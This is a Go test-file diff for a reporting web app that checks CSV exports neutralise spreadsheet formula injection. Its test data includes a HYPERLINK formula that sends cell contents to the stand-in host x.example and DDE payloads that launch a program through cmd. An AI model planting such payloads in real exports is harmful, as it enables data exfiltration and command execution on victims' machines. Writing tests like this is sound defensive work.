@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"io/fs"
 	"math"
 	"net/http"
 	"net/http/httptest"
@@ -12,6 +13,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"testing/fstest"
 	"time"
 
 	"golang.org/x/net/html"
@@ -444,4 +446,88 @@ func TestReportingPage(t *testing.T) {
 			t.Errorf("block %s (%d expected, %d received) has no row", block, n, received[block])
 		}
 	}
+}
+
+// TestCSVCellsNeutralised: a cell a spreadsheet would run as a formula opens
+// as text (a quote before it), plain negative numbers stay numbers.
+func TestCSVCellsNeutralised(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x.example/?"&A1,"Xem")`: `'=HYPERLINK("http://x.example/?"&A1,"Xem")`,
+		"+84 912 345 678":        "'+84 912 345 678",
+		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
+		"\t=1+1":                 "'\t=1+1",
+		"\r=1+1":                 "'\r=1+1",
+		"＝1+1":                   "'＝1+1",
+		"-":                      "'-",
+		"-0.125":                 "-0.125",
+		"-1.5e-07":               "-1.5e-07",
+		"-12,5%":                 "-12,5%",
+		"Hà Nội":                 "Hà Nội",
+		"0.5":                    "0.5",
+		"":                       "",
+		"a=b":                    "a=b",
+	} {
+		if got := csvCell(in); got != want {
+			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+	// Task titles come from the reports as written: titles that are
+	// formulae open as text in the download of the overdue tasks.
+	cat, err := project06.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const tasks = "data/lo-trinh-nhiem-vu.csv"
+	orig, err := fs.ReadFile(project06.FS, tasks)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile := []string{`"=HYPERLINK(""http://x.example/"",""Bấm"")"`, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)"}
+	lines := strings.Split(string(orig), "\n")
+	for i := 1; i < len(lines); i++ {
+		if f := strings.SplitN(lines[i], ",", 4); len(f) == 4 {
+			lines[i] = f[0] + "," + f[1] + "," + hostile[i%len(hostile)] + "," + f[3]
+		}
+	}
+	fsys := overlayFS{project06.FS, fstest.MapFS{tasks: {Data: []byte(strings.Join(lines, "\n"))}}}
+	e, err := exporter.New(cat, fsys, exporter.Options{Now: func() time.Time { return judgedAt }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.RefreshAll(context.Background())
+	_, body := get(t, New(e.Snapshot, Options{}), "/tasks?format=csv&table=overdue")
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	quoted := 0
+	for _, r := range recs {
+		for _, c := range r {
+			if strings.HasPrefix(c, "'") {
+				quoted++
+			}
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				if _, err := strconv.ParseFloat(c, 64); err != nil {
+					t.Errorf("a cell begins with %q: %q", c[0], c)
+				}
+			}
+		}
+	}
+	if quoted < len(recs)-1 || len(recs) < 2 { // every title is hostile
+		t.Errorf("no title neutralised in the download:\n%.600s", body)
+	}
+}
+
+// overlayFS reads the files of over in place of base's.
+type overlayFS struct {
+	base fs.FS
+	over fstest.MapFS
+}
+
+func (o overlayFS) Open(name string) (fs.File, error) {
+	if _, ok := o.over[name]; ok {
+		return o.over.Open(name)
+	}
+	return o.base.Open(name)
 }
